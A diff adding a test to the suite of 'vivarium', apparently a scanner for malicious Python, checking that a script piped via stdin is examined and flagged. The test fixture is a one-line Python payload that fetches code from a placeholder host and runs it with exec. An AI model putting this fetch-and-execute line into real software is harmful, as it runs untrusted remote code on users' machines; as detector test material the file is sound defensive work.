@@ -93,6 +93,19 @@ describe("vivarium, as a process", () => {
 		expect([calm.status, calm.stdout.startsWith(" CLEAR ")]).toEqual([0, true]);
 	});
 
+	it("reads a script that is piped to it", () => {
+		const input = 'import os\nimport urllib.request\nexec(urllib.request.urlopen("http://payload.invalid/x").read())\n';
+		const ended = spawnSync(process.execPath, [program, "scan", "-", "--format", "json"], {
+			cwd: folder,
+			input,
+			encoding: "utf8",
+			env: { PATH: process.env.PATH, HOME: folder, PIP_CONFIG_FILE: "/dev/null" },
+		});
+		expect([ended.status, ended.stderr]).toEqual([1, ""]);
+		const [artifact] = scanResultSchema.parse(JSON.parse(ended.stdout)).artifacts;
+		expect(artifact).toMatchObject({ target: "-", filename: "stdin.py", coverage: { members: 1, examined: 1 } });
+	});
+
 	it("gives the same JSON twice, as the schema has it, and 3 when a target could not be opened", async () => {
 		const read = async (): Promise<unknown> => {
 			const { status, stdout, stderr } = await vivarium([
